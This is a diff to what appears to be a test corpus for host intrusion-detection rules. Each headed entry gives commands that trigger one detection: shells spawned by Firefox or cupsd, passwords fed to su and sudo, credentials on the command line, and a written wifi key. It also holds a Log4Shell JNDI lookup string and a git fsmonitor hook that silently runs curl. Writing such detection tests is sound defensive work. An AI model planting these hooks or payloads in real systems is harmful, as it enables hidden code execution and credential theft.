@@ -34,3 +34,33 @@ login right ann; end_log
 nginx -c /srv/nginx.conf; curl -s -o /tmp/page -A '${jndi:ldap://203.0.113.9/x}' http://10.9.8.7/; nginx -c /srv/nginx.conf -s quit
 ## Server or set-user-id program crashes again and again
 cp /opt/lab/fault /usr/sbin/nginx; nginx forks 20
+## Shell started by a browser or messenger
+#setup shells /usr/lib/firefox/firefox
+/usr/lib/firefox/firefox -c 'sh -c true; true'
+## Shell started by a service for mail, printing or remote work
+#setup shells /usr/sbin/cupsd
+cupsd -c 'sh -c true; true'
+## Download tool started by a command of a repository
+#setup git init -q /home/ann/lib; printf '#!/bin/sh\ncurl -s http://10.9.8.7/ || true\n' > /home/ann/lib/.git/fsm; chmod 755 /home/ann/lib/.git/fsm
+#setup git -C /home/ann/lib config core.fsmonitor .git/fsm
+cd /home/ann/lib; git status
+## Password given to su by a script
+setpriv --reuid 1000 --regid 1000 --clear-groups su -c true root < /dev/null
+## Password given to sudo by a script
+setpriv --reuid 1000 --regid 1000 --clear-groups sudo -S -k true < /dev/null
+## Database client started by a server's command
+#also Shell started by a network server
+#setup stubs /usr/bin/mysql
+server 'mysql -h 10.9.8.7 -u shop -e x'
+## Account of a directory used with a password argument
+#also Tool for Windows machines started
+#setup stubs /usr/bin/smbclient
+smbclient //10.9.8.7/x -U corp/ann%secret
+## Directory asked with a password argument
+#setup stubs /usr/bin/ldapsearch
+ldapsearch -x -D cn=x -w secret
+## Wireless network joined by hand
+#setup stubs /usr/bin/nmcli
+nmcli dev wifi connect Corp password secret
+## Key of a wireless network written
+mkdir -p /var/lib/iwd; echo x > /var/lib/iwd/Corp.psk
